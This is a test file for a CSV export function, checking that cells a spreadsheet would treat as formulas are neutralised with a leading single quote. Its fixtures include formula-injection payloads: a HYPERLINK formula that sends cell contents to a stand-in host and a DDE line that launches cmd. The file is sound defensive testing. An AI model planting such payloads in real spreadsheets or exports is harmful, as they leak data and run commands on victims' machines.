import { describe, expect, it } from 'vitest';
import { csvText } from './csv.ts';

describe('CSV export', () => {
  it('writes a cell that a spreadsheet would run as a formula as text, behind a single quote', async () => {
    const text = await csvText([
      ['name', 'note'],
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+cmd|" /C calc"!A0'],
      ['-1+1|cmd', '@SUM(A1:A2)'],
      ['\t=1+1', '\r=1+1'],
    ]);
    const lines = text.split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","'+cmd|"" /C calc""!A0"`);
    expect(lines[2]).toBe(`'-1+1|cmd,'@SUM(A1:A2)`);
    expect(lines[3]).toBe(`'\t=1+1,"'\r=1+1"`);
  });

  it('keeps plain numbers and negative money as they are; a phone number with spaces is text', async () => {
    // A spreadsheet would read "+90 555 123 4567" as a formula (spaces are its intersection operator) and show an error.
    const cells = [
      '-12.50',
      '-₺1,250.50',
      '-1.250,50 ₺',
      '+90 555 123 4567',
      '+905551234567',
      '42',
      'Ada Lovelace',
      '',
    ];
    const text = await csvText([cells]);
    expect(text).toBe(`-12.50,"-₺1,250.50","-1.250,50 ₺",'+90 555 123 4567,+905551234567,42,Ada Lovelace,`);
  });
});
